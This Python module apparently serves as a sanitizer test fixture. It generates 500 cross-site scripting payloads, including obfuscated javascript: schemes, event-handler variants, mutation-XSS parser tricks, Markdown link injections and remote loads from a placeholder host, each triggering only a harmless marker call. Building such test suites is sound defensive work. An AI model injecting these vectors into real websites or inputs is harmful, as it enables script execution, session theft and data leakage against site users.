"""Five hundred ways to have a page run a stranger's script or load from elsewhere, made by combination.

Each calls `__fired(number)` or asks for something of AWAY. `raw` ones are HTML; all are tried as text of every field.
"""

from dataclasses import dataclass

AWAY = "https://ailleurs.invalid"
COUNT = 500
CLOSERS = "\"'` --></script></style></textarea></title></noscript></template></select></svg></math></iframe></xmp>"


@dataclass(frozen=True, slots=True)
class Payload:
    """`raw`: HTML that a browser may act on by itself. `navigates`: takes the page away, which no policy forbids."""

    text: str
    raw: bool = True
    navigates: bool = False


VECTORS = (
    ("img", "src=x", "onerror"),
    ("svg", "", "onload"),
    ("iframe", "src=about:blank", "onload"),
    ("video", "src=x", "onerror"),
    ("audio", "src=x", "onerror"),
    ("object", "data=x", "onerror"),
    ("input", "type=image src=x", "onerror"),
    ("details", "open", "ontoggle"),
    ("body", "", "onload"),
    ("style", "", "onload"),
    ("script", "src=x", "onerror"),
    ("link", "rel=stylesheet href=x", "onerror"),
    ("embed", "src=x", "onload"),
    ("input", "autofocus", "onfocus"),
    ("a", "href=x", "onmouseover"),
    ("p", "style=animation:x", "onanimationstart"),
)


def _spellings(tag: str, rest: str, event: str, code: str) -> list[str]:
    coded = "".join(f"&#{ord(sign)};" for sign in code)
    return [
        f"<{tag} {rest} {event}={code}>",
        f'<{tag} {rest} {event}="{code}">',
        f"<{tag} {rest} {event}='{code}'>",
        f"<{tag.upper()} {rest} {event.upper()}={code}>",
        f"<{tag}/{rest.replace(' ', '/')}/{event}={code}//>",
        f"<{tag}\n{rest}\n{event}\n=\n{code}>",
        f"<{tag}\t{rest}\t{event}={coded}>",
        f"<{tag} {rest} {event}={code} x=",
        f"<<{tag} {rest} {event}={code}>",
        f'<{tag} {rest} title="<b>" {event}={code}>',
        f"<x><{tag} {rest} {event}={code}></x>",
        f"&lt;{tag} {rest} {event}={code}&gt;",
    ]


def _schemes(code: str) -> list[str]:
    return [
        f"javascript:{code}",
        f"JaVaScRiPt:{code}",
        f"java\tscript:{code}",
        f"java&#10;script:{code}",
        f"&#106;avascript:{code}",
        f"javascript&colon;{code}",
        f"\x01javascript:{code}",
        f" javascript:{code}",
        f"javascript://%0a{code}",
        f"data:text/html,<script>{code}</script>",
        f"data:text/html;charset=utf-8,%3Csvg onload={code}%3E",
        f"vbscript:{code}",
        f"view-source:javascript:{code}",
        f"feed:javascript:{code}",
    ]


def _carriers(scheme: str) -> list[Payload]:
    return [
        Payload(f"[un lien]({scheme})", raw=False),
        Payload(f"[un lien](<{scheme}>)", raw=False),
        Payload(f"<{scheme}>", raw=False),
        Payload(f"![une image]({scheme})", raw=False),
        Payload(f"[un nom][{scheme}]\n\n[un nom]: {scheme}", raw=False),
        Payload(f'<a href="{scheme}">a</a>'),
        Payload(f'<iframe src="{scheme}"></iframe>'),
        Payload(f'<object data="{scheme}"></object>'),
        Payload(f'<form action="{scheme}"><button>a</button></form>'),
        Payload(f'<svg><a xlink:href="{scheme}"><text y=9>a</text></a></svg>'),
    ]


BREAKERS = (
    '">',
    "'>",
    "`>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "</p>",
    "\\",
    "{{",
    "%3e",
)
ENDINGS = (
    "<img src=x onerror={code}>",
    "<svg onload={code}>",
    "<script>{code}</script>",
    "<iframe srcdoc='<script>{code}</script>'></iframe>",
    '" onmouseover={code} x="',
    "' autofocus onfocus={code} x='",
)
CHANGING = (
    "<svg><style><img src=x onerror={code}></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={code}&gt;">',
    '<noscript><p title="</noscript><img src=x onerror={code}>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={code}>",
    '<svg></p><style><a id="</style><img src=x onerror={code}>">',
    "<svg><script>{code}</script></svg>",
    "<svg><animate onbegin={code} attributeName=x dur=1s>",
    "<svg><set onbegin={code} attributeName=x>",
    "<template><img src=x onerror={code}></template>",
    "<select><style></select><img src=x onerror={code}>",
    "<xmp></xmp><img src=x onerror={code}>",
    "<img src=x:x onerror\u00a0={code}>",
    "<div><a href=x is=x onclick={code}>a</a></div>",
    "<b onclick={code} style=position:fixed;inset:0>a</b>",
)
WORDS = (
    '[a](x "\\" onmouseover={code} x=\\"")',
    '![a](media/x.png "\\" onerror={code} x=\\"")',
    '[a](glossaire:"><img/src=x/onerror={code}>)',
    "[a](unite:suite#'onclick={code})",
    '[@"><img src=x onerror={code}>]',
    "[@leamy2011, <img src=x onerror={code}>]",
    "[^<img src=x onerror={code}>]",
    '```"><img src=x onerror={code}>\na\n```',
    "`<img src=x onerror={code}>`",
    'a {{#x"onload={code}}}',
    "<!-- a --!><img src=x onerror={code}> -->",
    "<!--><img src=x onerror={code}>-->",
    "<?xml <img src=x onerror={code}> ?>",
    "<![CDATA[<img src=x onerror={code}>]]>",
    "{{{{ self.__init__ }}}} ${{{code}}} #{{{code}}} <%= {code} %>",
)
LOADS = (
    "<img src={away}>",
    "<img srcset={away}>",
    "<link rel=stylesheet href={away}>",
    "<link rel=prefetch href={away}>",
    "<style>@import '{away}';</style>",
    "<p style='background:url({away})'>a</p>",
    "<video poster={away}></video>",
    "<video src={away} autoplay></video>",
    "<svg><image href={away} /></svg>",
    "<svg><use href={away}#a /></svg>",
    "<iframe src={away}></iframe>",
    "<object data={away}></object>",
    "<embed src={away}>",
    "<script src={away}></script>",
    "<script type=module>import '{away}'</script>",
    "<input type=image src={away}>",
    "<audio src={away} preload></audio>",
    "<track src={away}>",
    "<table background={away}><tr><td>a</table>",
    "<base href={away}/><img src=un-nom.png>",
)


def payloads() -> list[Payload]:
    """Exactly COUNT of them, no two alike; every family is there."""
    found: list[Payload] = []
    found += [Payload(load.format(away=f"{AWAY}/{n}")) for n, load in enumerate(LOADS)]
    found += [Payload(f"![une image]({AWAY}/a.png)", raw=False), Payload(f"[un nom]: {AWAY}\n\n![un nom]", raw=False)]
    found += [Payload(f"<meta http-equiv=refresh content='0;url={AWAY}'>", navigates=True)]
    found += [Payload(text.format(code=_code(100 + n))) for n, text in enumerate(CHANGING)]
    found += [Payload(text.format(code=_code(200 + n)), raw=False) for n, text in enumerate(WORDS)]
    for n, scheme in enumerate(_schemes("__fired(1)")):
        found += [Payload(p.text.replace("__fired(1)", _code(300 + n)), p.raw) for p in _carriers(scheme)]
    for n, (tag, rest, event) in enumerate(VECTORS):
        found += [Payload(text) for text in _spellings(tag, rest, event, _code(400 + n))]
    for n, breaker in enumerate(BREAKERS):
        found += [Payload(breaker + ending.format(code=_code(500 + n))) for ending in ENDINGS]
    found += [Payload(f"<p>{other.text}</p>") for other in found if other.raw and not other.navigates]
    return list({one.text: one for one in found}.values())[:COUNT]


def _code(number: int) -> str:
    return f"__fired({number})"


PAYLOADS = payloads()
